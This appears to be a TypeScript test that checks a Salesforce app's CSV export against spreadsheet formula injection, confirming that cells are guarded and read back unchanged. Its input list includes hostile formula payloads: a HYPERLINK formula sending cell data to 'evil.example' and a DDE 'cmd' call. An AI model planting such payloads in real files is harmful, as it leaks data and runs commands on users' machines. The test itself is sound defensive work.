import { setTimeout } from 'node:timers/promises';
import { readCsvRecord } from '../../../../core/src/author/run/csv-records.ts';
import { callAuraEnabled } from '../../../../sandbox/salesforce/org/access/call-aura-enabled.ts';
import { mustSave } from '../../../../sandbox/salesforce/installation/must-save.ts';
import type { SecuredOrg } from './secured-org.ts';
import type { Findings } from './try-entries.ts';

/** What somebody could have typed into a name that an export repeats, and what only looks like it. */
const cells: readonly string[] = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '   @A1',
  '\u00a0=1',
  '"=1+1"',
  "'=1+1",
  "''=1",
  '"\'=1',
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  "=cmd|' /C calc'!A1",
  '\uff1d1+1',
  '-5',
  'plain',
  "'quoted'",
  'a "b", c',
  'a\nb',
];

/** Where a spreadsheet begins to calculate: at a sign, behind blanks and quotes that some programs drop, or at a tab or line break. */
const calculates = /^(?:[\s"]*[=+\-@\uff1d\uff0b\uff0d\uff20]|[ \u00a0"]*[\t\r\n])/;
/** One apostrophe was put before what would calculate; whoever reads the file takes it off again. */
const guarded = /^'(?=[\s\u00a0'"]*[=+\-@\uff1d\uff0b\uff0d\uff20]|[ \u00a0'"]*[\t\r\n])/;

/** Exports decisions with such texts: no cell may calculate, and reading back must give what was typed. */
export async function tryExports(org: SecuredOrg): Promise<Findings> {
  const { installation, userIds } = org;
  // What was tried before took seconds without a pause: the client must hear first which connections the server has closed.
  await setTimeout(100);
  const decided = cells.map((text, place) => ({
    DecisionId__c: `typed-${String(place).padStart(3, '0')}`,
    DecidedAt__c: '2020-02-02T02:02:02.000Z',
    Headline__c: text,
    Destination__c: text,
  }));
  mustSave('decisions', await installation.admin.sobject('SbxDecision__c').create(decided));
  // Of what the platform keeps otherwise than it was typed the export gives what is kept.
  const kept = await installation.admin.query<{ DecisionId__c: string; Headline__c: string }>(
    "SELECT DecisionId__c, Headline__c FROM SbxDecision__c WHERE DecisionId__c LIKE 'typed-%' ORDER BY DecisionId__c",
  );
  const expected = new Map(kept.records.map((each) => [each.DecisionId__c, each.Headline__c]));
  const rows = await exportRows(org, userIds.admin);
  const [head = [], ...body] = rows;
  const wrong: string[] = [];
  for (const row of body) {
    const name = row[head.indexOf('DecisionId__c')] ?? '';
    for (const column of ['Headline__c', 'Destination__c']) {
      const cell = row[head.indexOf(column)] ?? '';
      if (calculates.test(cell)) wrong.push(`${column} of ${name} calculates: ${JSON.stringify(cell)}`);
      const back = cell.replace(guarded, '');
      if (back !== expected.get(name)) {
        wrong.push(
          `${column} of ${name} reads back as ${JSON.stringify(back)} instead of ${JSON.stringify(expected.get(name))}`,
        );
      }
    }
  }
  if (body.length !== cells.length) wrong.push(`${body.length} rows instead of ${cells.length}`);
  return { count: cells.length * 2, wrong };
}

async function exportRows({ installation }: SecuredOrg, userId: string): Promise<string[][]> {
  const { org, program, connected } = installation;
  const args = { firstDay: '2020-02-02', lastDay: '2020-02-02', form: 'csv' };
  const answer = callAuraEnabled(org, { program, userId, method: 'SbxExport.start', args });
  if ('error' in answer) throw new Error(answer.error.message);
  connected.background.wake();
  await connected.settled();
  const files = await installation.admin.query<{ VersionData: string }>('SELECT VersionData FROM ContentVersion');
  return files.records.flatMap(({ VersionData: content }) => rowsOf(Buffer.from(content, 'base64').toString('utf8')));
}

function rowsOf(text: string): string[][] {
  const rows: string[][] = [];
  for (let place = 0; place < text.length;) {
    const reading = readCsvRecord(text, place, ',', true);
    if (reading.kind !== 'record') throw new Error(`The export cannot be read from ${place} on.`);
    rows.push(reading.fields);
    place = reading.next;
  }
  return rows;
}
